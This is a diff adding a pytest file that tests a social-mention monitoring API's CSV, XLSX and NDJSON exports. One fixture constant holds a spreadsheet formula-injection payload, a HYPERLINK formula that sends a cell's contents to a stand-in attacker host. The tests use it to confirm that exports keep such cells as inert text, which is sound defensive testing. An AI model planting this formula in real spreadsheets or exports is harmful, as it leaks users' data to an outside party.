@@ -1,0 +1,214 @@
+"""Exports over the API: mentions and stats as CSV, XLSX and NDJSON, over real stores."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import timedelta
+
+import openpyxl
+import pytest
+from fastapi.testclient import TestClient
+
+from services.core.models import AuthorDetails, Engagement, Sentiment, SentimentLabel
+from services.runtime.context import ServiceContext
+from tests.factories import BASE_TIME, make_mention
+
+NEG = Sentiment(label=SentimentLabel.NEGATIVE, score=0.9)
+POS = Sentiment(label=SentimentLabel.POSITIVE, score=0.8)
+WINDOW = {"since": (BASE_TIME - timedelta(days=60)).isoformat()}
+HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'
+
+
+@pytest.fixture
+def mentions(ctx: ServiceContext) -> ServiceContext:
+    batch = [
+        make_mention(
+            id=f"m{i:04d}",
+            text=f"Livraison en retard pour mon Veloria numéro {i}, déçu",
+            language="fr",
+            brands=["Veloria"],
+            competitors=["Trekko"],
+            sentiment=POS,
+            brand_sentiments={"Veloria": NEG, "Trekko": POS},
+            author="Zoé" if i % 2 else "bob",
+            author_details=AuthorDetails(display_name="Zoé L.", followers=1200) if i % 2 else None,
+            engagement=Engagement(likes=i, shares=1),
+            topics=["delivery", "after-sales"],
+            published_at=BASE_TIME - timedelta(hours=i),
+        )
+        for i in range(1200)  # more than a chunk of rows and a page of the index
+    ]
+    batch.append(
+        make_mention(
+            id="hostile",
+            text=HOSTILE,
+            brands=["Veloria"],
+            sentiment=NEG,
+            language="en",
+            published_at=BASE_TIME + timedelta(hours=1),
+        )
+    )
+    ctx.index.upsert(batch)
+    return ctx
+
+
+def _csv(body: bytes, sep: str = ",") -> list[dict[str, str]]:
+    text = body.decode("utf-8")
+    assert text.startswith("\ufeff")  # Excel reads the accents as UTF-8
+    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=sep))
+
+
+def test_csv_export_has_every_match_and_the_expected_columns(
+    mentions: ServiceContext, client: TestClient
+) -> None:
+    response = client.get("/api/v1/export/mentions", params={"q": "lang:fr"})
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("text/csv")
+    assert 'filename="veille-mentions-' in response.headers["content-disposition"]
+    rows = _csv(response.content)
+    assert len(rows) == 1200 == mentions.index.count(_filter("lang:fr"))
+    assert [r["id"] for r in rows[:2]] == ["m1199", "m1198"]  # oldest first
+    first = {r["id"]: r for r in rows}["m0001"]
+    assert first["date"] == (BASE_TIME - timedelta(hours=1)).strftime("%Y-%m-%d %H:%M:%S")
+    assert first["author"] == "Zoé" and first["author_name"] == "Zoé L."
+    assert first["followers"] == "1200"
+    assert first["text"] == "Livraison en retard pour mon Veloria numéro 1, déçu"
+    assert first["brands"] == "Veloria" and first["competitors"] == "Trekko"
+    assert first["sentiment"] == "positive"  # overall...
+    assert first["sentiment:Veloria"] == "negative"  # ...and toward each name
+    assert first["sentiment:Trekko"] == "positive"
+    assert first["topics"] == "delivery; after-sales"
+    assert (first["likes"], first["shares"], first["views"]) == ("1", "1", "")
+    assert first["community"] == "example.org" and first["language"] == "fr"
+    assert {r["followers"] for r in rows if r["author"] == "bob"} == {""}  # never invented
+
+
+def _filter(q: str):  # type: ignore[no-untyped-def]
+    from services.core.query import parse_query
+    from services.store.contracts import MentionFilter
+
+    return MentionFilter(query=parse_query(q))
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(
+    mentions: ServiceContext, client: TestClient
+) -> None:
+    response = client.get("/api/v1/export/mentions", params={"q": "lang:en", "sep": ";"})
+    (row,) = _csv(response.content, sep=";")
+    assert row["text"] == "'" + HOSTILE
+
+
+def test_ndjson_export(mentions: ServiceContext, client: TestClient) -> None:
+    response = client.get("/api/v1/export/mentions", params={"q": "author:zoe", "format": "ndjson"})
+    assert response.headers["content-type"] == "application/x-ndjson"
+    lines = response.text.splitlines()
+    assert len(lines) == 600
+    record = json.loads(lines[-1])
+    assert record["id"] == "m0001" and record["followers"] == 1200
+    assert record["brands"] == ["Veloria"] and record["likes"] == 1
+    assert record["sentiment_toward"] == {"Veloria": "negative", "Trekko": "positive"}
+    assert record["date"].startswith((BASE_TIME - timedelta(hours=1)).date().isoformat())
+
+
+def test_xlsx_export_reads_back(mentions: ServiceContext, client: TestClient) -> None:
+    response = client.get("/api/v1/export/mentions", params={"format": "xlsx"})
+    assert response.status_code == 200
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
+    sheet = workbook["mentions"]
+    rows = list(sheet.iter_rows(values_only=True))
+    header = list(rows[0])
+    assert len(rows) == 1 + 1201
+    by_id = {row[header.index("id")]: row for row in rows[1:]}
+    hostile = by_id["hostile"]
+    assert hostile[header.index("text")] == HOSTILE  # a text cell, never run as a formula
+    one = by_id["m0001"]
+    assert one[header.index("followers")] == 1200
+    assert one[header.index("date")] == (BASE_TIME - timedelta(hours=1)).replace(tzinfo=None)
+    assert one[header.index("sentiment:Veloria")] == "negative"
+    workbook.close()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ndjson"])
+def test_a_query_with_a_syntax_error_streams_nothing(
+    mentions: ServiceContext, client: TestClient, fmt: str
+) -> None:
+    response = client.get("/api/v1/export/mentions", params={"q": "veloria AND (", "format": fmt})
+    assert response.status_code == 400
+    assert response.headers["content-type"] == "application/problem+json"
+    assert response.json()["position"] == 13
+    assert "content-disposition" not in response.headers
+    bad_window = client.get(
+        "/api/v1/export/mentions",
+        params={"since": "2026-02-01", "until": "2026-01-01", "format": fmt},
+    )
+    assert bad_window.status_code == 400
+
+
+def test_export_of_a_saved_search(mentions: ServiceContext, client: TestClient) -> None:
+    saved = {"name": "zoe", "query": "author:zoé", "filters": {"languages": ["fr"]}}
+    assert client.post("/api/v1/saved-searches", json=saved).status_code == 201
+    rows = _csv(client.get("/api/v1/export/mentions", params={"saved_search": "zoe"}).content)
+    assert len(rows) == 600 and {r["author"] for r in rows} == {"Zoé"}
+    narrowed = client.get(
+        "/api/v1/export/mentions", params={"saved_search": "zoe", "q": "numéro NEAR/0 1"}
+    )
+    assert [r["id"] for r in _csv(narrowed.content)] == ["m0001"]
+    missing = client.get("/api/v1/export/mentions", params={"saved_search": "nope"})
+    assert missing.status_code == 404
+
+
+def test_stats_exports_hold_the_apis_figures(mentions: ServiceContext, client: TestClient) -> None:
+    params = {"brand": "Veloria", **WINDOW}
+    answer = client.get("/api/v1/stats/share-of-voice", params=params).json()
+    rows = _csv(client.get("/api/v1/export/stats/share-of-voice", params=params).content)
+    assert [(r["name"], int(r["count"])) for r in rows] == [
+        (s["name"], s["count"]) for s in answer["shares"]
+    ]
+    assert rows[0]["sentiment:negative"] == str(answer["shares"][0]["sentiment"]["negative"])
+
+    series = client.get("/api/v1/stats/sentiment", params={"interval": "day", **WINDOW}).json()
+    exported = client.get(
+        "/api/v1/export/stats/sentiment", params={"interval": "day", "format": "ndjson", **WINDOW}
+    )
+    lines = [json.loads(line) for line in exported.text.splitlines()]
+    assert lines == series["buckets"]
+
+    authors = _csv(
+        client.get(
+            "/api/v1/export/stats/breakdown", params={"dimension": "author", **WINDOW}
+        ).content
+    )
+    assert [(r["key"], r["count"]) for r in authors] == [
+        ("Zoé", "600"),
+        ("bob", "600"),
+        ("someone", "1"),
+    ]
+    xlsx = client.get("/api/v1/export/stats/top-terms", params={"format": "xlsx", **WINDOW})
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True)["top-terms"]
+    words = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert "déçu" in words and "veloria" not in words
+    wrong = client.get("/api/v1/export/stats/breakdown", params={"dimension": "nope"})
+    assert wrong.status_code == 422
+
+
+def test_exports_are_in_the_openapi_document(client: TestClient) -> None:
+    paths = client.get("/api/v1/openapi.json").json()["paths"]
+    route = paths["/api/v1/export/mentions"]["get"]
+    assert {"text/csv", "application/x-ndjson"} <= set(route["responses"]["200"]["content"])
+    names = {p["name"] for p in route["parameters"]}
+    assert {"q", "saved_search", "since", "until", "format", "sep"} <= names
+    for stats in ("volume", "sentiment", "share-of-voice", "breakdown", "top-terms", "authors"):
+        exported = paths[f"/api/v1/export/stats/{stats}"]["get"]
+        assert "format" in {p["name"] for p in exported["parameters"]}
+    assert "dimension" in {
+        p["name"] for p in paths["/api/v1/export/stats/breakdown"]["get"]["parameters"]
+    }
+
+
+def test_exports_need_a_key(mentions: ServiceContext, client: TestClient) -> None:
+    response = client.get("/api/v1/export/mentions", headers={"X-API-Key": "wrong"})
+    assert response.status_code == 401
+    stats = client.get("/api/v1/export/stats/volume", headers={"X-API-Key": "wrong"})
+    assert stats.status_code == 401
